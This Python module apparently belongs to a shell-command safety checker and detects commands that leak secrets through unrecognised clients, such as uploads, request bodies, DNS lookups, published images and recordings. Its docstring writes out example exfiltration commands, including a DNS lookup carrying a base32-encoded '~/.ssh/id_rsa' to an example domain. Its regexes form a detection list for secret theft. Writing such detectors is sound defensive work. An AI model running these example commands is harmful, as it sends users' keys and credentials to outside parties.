"""Secrets sent by clients no rule knows (``exfil`` names its senders; users have many more).

The class is read from the command's own shape, for any program:

- a secret path and a way out on one command: an upload verb (``box files:upload KEY``, ``foo send KEY``,
  ``bar publish KEY``) or a copy verb with a remote destination (``mcli cp ~/.kube/config play/…``,
  ``kioclient5 copy KEY webdav://…``, ``git-annex copy --to=REMOTE secrets/``);
- a secret as a request's body (``vegeta attack -body ~/.npmrc``, ``siege "URL POST < ~/.pypirc"``, any
  ``--body``/``--data``/``--payload`` option);
- a DNS name built from a secret substitution, looked up by any resolver (``adnshost "$(… ~/.ssh/id_rsa |
  base32).x.example"``): every lookup carries the text to whoever runs the domain;
- a home or root directory built into an image that is published (``pack build R/x --path ~ --publish``,
  kaniko's ``--context dir:///root --destination R``, ``docker build ~ --push``): the image carries every key;
- a recording of a command that prints a secret, published on the line (``asciinema rec -c 'cat KEY' … &&
  asciinema upload …``).

A public key, a build artifact, a project directory and plain names stay quiet.
"""
from __future__ import annotations

import re
from typing import Optional

from aish.safety.any_case import AnyWord
from aish.safety.rules.common import HIGH, MEDIUM, Ctx, fragment
from aish.safety.rules.triggers import triggered_by
from aish.safety.rules.secret_exports import into_secret_store
from aish.safety.rules.exfil import _in_substitutions, _segment_reads_secret, _worse, prints_secret, secret_path
from aish.safety.shell_words import Word
from aish.safety.lazy_regex import lazy

_UPLOADS = re.compile(r"(?:^|[:_.-])(?:upload|uploads|send|share|publish|put|push|post|exfil)(?:$|[:_.-]|-file)",
                      re.IGNORECASE)
# A directory named for what it holds (`git-annex copy --to=public secrets/`).
_SECRETS_DIR = lazy(r"^(?:\./)?(?:secrets?|credentials|creds|private[-_]?keys?|keys|\.secrets)/?$", re.IGNORECASE)
_STORES = frozenset({"secret", "secrets", "vault", "kv", "credentials", "creds", "keychain", "keyring", "kms"})
_COPIES = re.compile(r"^(?:cp|copy|sync|mirror|mv|move|transfer|put)$", re.IGNORECASE)
_SCHEME = lazy(r"^(?!file:|dir:|tar:|oci:|docker-daemon:)[a-z][a-z0-9+.-]*://", re.IGNORECASE)
_TO_OPTIONS = frozenset({"--to", "--remote", "--dest", "--destination", "--target", "--bucket", "-b", "-bn"})
_ALIAS_PATH = lazy(r"^(?:play|s3|gcs|gs|r2|b2|minio|azure|remote|public|pub)[:/][\w./-]*$", re.IGNORECASE)
_BODY_OPTIONS = frozenset({"-body", "--body", "--body-file", "--data", "--data-binary", "--data-file",
                           "--payload", "--payload-file", "--post-file", "-postfile", "--attach", "--attachment",
                           "-bodyfile", "--request-body"})
_FORM_BODY = lazy(r"\b(?:POST|PUT|PATCH)\s*<\s*(\S+)")
_DNS_NAME = lazy(r"\)\"?\.(?:[a-z0-9-]+\.)+[a-z]{2,}\.?[\"']?$|`\.(?:[a-z0-9-]+\.)+[a-z]{2,}\.?$", re.IGNORECASE)
_CHEAP = AnyWord("upload", "send", "share", "publish", "put", "push", "post", "exfil", "cp", "copy", "sync", "mirror",
                 "mv", "move", "transfer", "body", "data", "payload", "attach", "destination", "$(", "`")


@triggered_by(_CHEAP.words, otherwise=False)  # it says no unless one of them is in the line
def may_send(c: Ctx) -> bool:
    """A cheap look at the line before it is read: a verb, a body option or a substitution among its words."""
    return bool(c.args) and _CHEAP.occurs_in(c.lowered)


def _secret(word: Word) -> str:
    text = word.text
    if text.endswith((".pub", ".pub'", ".crt", ".pem.pub")) or text in ("~", "/root", "$HOME", "~/"):
        return ""  # a public key, or a whole home (a backup: judged elsewhere)
    return secret_path(Word(text, text, has_var="$" in text))


def rule_unknown_sender(c: Ctx) -> Optional[tuple]:
    """A secret sent by a client no rule names: see the module's docstring."""
    texts = c.texts
    if into_secret_store(texts):
        return None  # `gcloud secrets versions add NAME --data-file=KEY`: stored for the user, not sent
    found = ""
    for w in c.args[:32]:  # a DNS name built from a secret substitution
        if w.subs and _DNS_NAME.search(w.raw):
            got = _in_substitutions([w])
            if got:
                return _level(got), f"looks up a name built from a secret: DNS carries it out ({c.text})"
    for k, t in enumerate(texts[:32]):  # a secret as a request's body
        if t in _BODY_OPTIONS and k + 1 < len(texts):
            found = _worse(found, _secret(Word(texts[k + 1].lstrip("@"), texts[k + 1].lstrip("@"))))
        elif t.startswith("--") and "=" in t and t.split("=", 1)[0] in _BODY_OPTIONS:
            value = t.split("=", 1)[1].lstrip("@")
            found = _worse(found, _secret(Word(value, value)))
        for m in _FORM_BODY.finditer(t) if "<" in t else ():
            found = _worse(found, _secret(Word(m.group(1), m.group(1))))
    if found:
        return _level(found), f"sends {_what(found)} as a request's body ({c.text})"
    verbs = [t for t in texts[:4] if not t.startswith("-")]
    if _STORES.intersection(v.lower() for v in verbs):
        return None  # into a secrets manager (`doppler secrets upload f.env`): where secrets are meant to be
    uploads = any(_UPLOADS.search(t) for t in verbs)
    if not uploads and not (any(_COPIES.match(t) for t in verbs) and (
            any(_SCHEME.match(t) or _ALIAS_PATH.match(t) for t in texts) or
            any(t.split("=", 1)[0] in _TO_OPTIONS for t in texts))):
        return None
    secrets = ""
    for w in c.args[:32]:
        if not w.text.startswith("-"):
            secrets = _worse(secrets, _secret(w) or ("medium" if _SECRETS_DIR.match(w.text) else ""))
    return (_level(secrets), f"sends {_what(secrets)} to another machine ({c.text})") if secrets else None


# Image builders' context options and the words that publish what they build.
_CONTEXT_OPTIONS = frozenset({"--path", "-p", "--context", "-c", "--local", "--build-context", "--workspace"})
_PUBLISHES = lazy(r"^(?:--publish|--push|--destination|-d|push|--output=.*push=true|type=registry.*)$|push=true")
_BUILDS = frozenset({"build", "bud", "image"})
_VALUED = frozenset({"-t", "--tag", "-f", "--file", "--target", "--platform", "--build-arg", "-o", "--output"})
_WHOLE_HOME = lazy(r"^(?:(?:dir|context)[:=]/*)?(?:~/?|\$HOME/?|\$\{HOME\}/?|/root/?|/home/[\w.-]+/?|/)$")


def rule_published_home_image(c: Ctx) -> Optional[tuple]:
    """A home or root directory built into an image and published (``pack build R/x --path ~ --publish``)."""
    texts = c.texts
    lowered = c.lowered
    if "push" not in lowered and "publish" not in lowered and "destination" not in lowered or \
            not any(_PUBLISHES.search(t) for t in texts[:40]):
        return None
    return (HIGH, f"builds a home or root directory, keys and all, into an image it publishes ({c.text})") \
        if _builds_home(texts) else None


def rule_home_image_pushed(segs: list) -> Optional[tuple]:
    """A home or root directory built into an image, pushed later on the line (``docker build -t R/x ~ && docker
    push R/x``)."""
    if len(segs) < 2:
        return None
    for k, seg in enumerate(segs[:-1]):
        texts = [w.text for w in seg.words[1:]]
        if _BUILDS.intersection(texts[:3]) and _builds_home(texts) and \
                any(w.text == "push" for s in segs[k + 1:] for w in s.words[1:4]):
            return HIGH, f"builds a home or root directory, keys and all, into an image it pushes " \
                         f"({fragment([w.text for w in seg.words])})"
    return None


def _builds_home(texts: list) -> bool:
    """Is the build's context a whole home or root directory?"""
    for k, t in enumerate(texts[:40]):
        value = t.split("=", 1)[1] if "=" in t and t.split("=", 1)[0] in _CONTEXT_OPTIONS else \
            texts[k + 1] if t in _CONTEXT_OPTIONS and k + 1 < len(texts) else t if k and not t.startswith("-") and \
            _BUILDS.intersection(texts[:3]) and texts[k - 1] not in _VALUED else ""
        value = re.sub(r"^(?:dir|context)://?", "/", value).replace("//", "/") if "://" in value else value
        value = value.removeprefix("context=")
        if value and _WHOLE_HOME.match(value):
            return True
    return False


_RECORDERS_COMMAND = frozenset({"-c", "--command", "-e", "--exec", "-x"})
_PUBLISH_LATER = lazy(r"^(?:upload|share|publish|push|send)$")


def rule_published_recording(segs: list) -> Optional[tuple]:
    """A recording of a command that prints a secret, published later on the line (any recorder)."""
    if len(segs) < 2:
        return None
    for k, seg in enumerate(segs[:-1]):
        texts = [w.text for w in seg.words]
        if not any(t in ("rec", "record") for t in texts[1:3]):
            continue
        for j, t in enumerate(texts[:-1]):
            if t not in _RECORDERS_COMMAND:
                continue
            inner = texts[j + 1]
            got = prints_secret(inner.split()) or _worse("", _reads_named(inner))
            later = [w.text for s in segs[k + 1:] for w in s.words]
            if got and any(_PUBLISH_LATER.match(x) for x in later[:12]) or got and _segment_reads_secret(seg) and \
                    any(x in ("curl", "transfer", "ffsend", "croc") for x in later[:6]):
                return _level(got), f"records a command that prints {_what(got)} and publishes the recording " \
                                    f"({fragment(texts)})"
    return None


def _reads_named(command: str) -> str:
    words = command.split()
    if not words or words[0] not in ("cat", "less", "more", "head", "tail", "bat", "xxd", "base64", "strings"):
        return ""
    found = ""
    for part in words[1:]:
        found = _worse(found, secret_path(Word(part, part, has_var="$" in part)))
    return found


def _level(found: str) -> int:
    return HIGH if found == "high" else MEDIUM


def _what(found: str) -> str:
    return "keys or credentials" if found == "high" else "secrets"
